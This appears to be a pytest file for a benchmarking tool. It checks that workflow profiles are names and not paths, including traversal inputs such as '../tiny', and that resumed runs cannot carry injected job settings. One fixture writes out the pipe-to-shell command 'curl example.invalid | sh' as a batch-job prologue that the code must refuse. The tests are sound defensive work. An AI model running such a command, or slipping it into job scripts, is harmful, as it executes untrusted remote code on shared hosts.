"""A flow's `profile` is a name, never a path, and a run resumed through a flow has only what a flow
run could have chosen (aiperf.lifecycle.parameters): whoever may run a deployment chooses its
parameters and the database it resumes from, and a profile's job settings reach batch job scripts."""

from __future__ import annotations

from importlib import resources
from pathlib import Path

import pytest
import yaml
from conftest import TINY

from aiperf.config import load_config
from aiperf.errors import UserError
from aiperf.lifecycle.parameters import check_resumed_config, flow_profile
from aiperf.store import Store


def own_profile(folder: Path, name: str = "tiny", **cluster: object) -> Path:
    """The packaged quick profile with TINY's settings (and `cluster`), as NAME.yaml in `folder`."""
    raw = yaml.safe_load((resources.files("aiperf") / "profiles" / "quick.yaml").read_text())
    for key, value in TINY.items():
        *sections, leaf = key.split(".")
        node = raw
        for section in sections:
            node = node.setdefault(section, {})
        node[leaf] = value
    if cluster:
        raw["cluster"] = {**raw.get("cluster", {}), **cluster}
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump(raw, sort_keys=False))
    return path


@pytest.mark.parametrize(
    "profile", ["/etc/aiperf/tiny.yaml", "tiny.yaml", "profiles/tiny", "../tiny", ".tiny", "", 3]
)
def test_a_flow_profile_that_is_a_path_is_refused_in_one_line(profile, tmp_path, monkeypatch):
    own_profile(tmp_path)
    monkeypatch.setenv("AIPERF_PROFILE_DIR", str(tmp_path))
    with pytest.raises(
        UserError, match="is not a profile name: a flow run reads no path"
    ) as refused:
        flow_profile(profile)
    assert "\n" not in str(refused.value) and "AIPERF_PROFILE_DIR" in str(refused.value)


def test_a_flow_profile_is_packaged_or_in_the_hosts_folder(tmp_path, monkeypatch):
    assert flow_profile("quick") == "quick"
    monkeypatch.delenv("AIPERF_PROFILE_DIR", raising=False)
    with pytest.raises(
        UserError, match=r"'tiny' is no packaged profile \(AIPERF_PROFILE_DIR is unset"
    ):
        flow_profile("tiny")
    path = own_profile(tmp_path)
    monkeypatch.setenv("AIPERF_PROFILE_DIR", str(tmp_path))
    assert flow_profile("tiny") == str(path)
    own_profile(tmp_path, "quick")  # a packaged name cannot be shadowed
    assert flow_profile("quick") == "quick"
    with pytest.raises(UserError, match="put other.yaml in that folder"):
        flow_profile("other")


def test_a_resumed_config_must_be_one_a_flow_run_could_have(tmp_path, monkeypatch):
    folder = tmp_path / "profiles"
    monkeypatch.setenv("AIPERF_PROFILE_DIR", str(folder))
    check_resumed_config(load_config("quick", overrides={"cluster.adaptive": True}), 7)
    shell = {"cluster.prologue": ["curl example.invalid | sh"]}
    with pytest.raises(UserError, match="run 7's stored config sets cluster.prologue") as refused:
        check_resumed_config(load_config("quick", overrides=shell), 7)
    assert "aiperf run --resume 7 --db URL" in str(refused.value)

    elsewhere = own_profile(tmp_path / "elsewhere")  # a file the host did not put in its folder
    with pytest.raises(UserError, match="neither packaged nor in AIPERF_PROFILE_DIR"):
        check_resumed_config(load_config(str(elsewhere)), 7)
    hosts = own_profile(folder, "site", prologue=["module load cuda"])
    check_resumed_config(load_config(str(hosts)), 7)  # the host's own prologue
    with pytest.raises(UserError, match="sets cluster.prologue"):
        check_resumed_config(load_config(str(hosts), overrides=shell), 7)
    with pytest.raises(UserError, match="sets cluster.queue"):
        check_resumed_config(load_config(str(hosts), overrides={"cluster.queue": "gpu"}), 7)


@pytest.mark.slow
def test_a_flow_run_with_a_profile_path_is_refused_before_anything_is_recorded(
    prefect_api, tmp_path, sqlite_url
):
    from aiperf_flows.benchmark import benchmark

    path = own_profile(tmp_path)
    with Store.open(sqlite_url) as store:
        assert store.list_runs() == []
    with pytest.raises(UserError, match="is not a profile name"):
        benchmark(
            profile=str(path), budget="5s", workers=1, db=sqlite_url, out=str(tmp_path / "out")
        )
    with Store.open(sqlite_url) as store:
        assert store.list_runs() == []
    assert not (tmp_path / "out").exists()
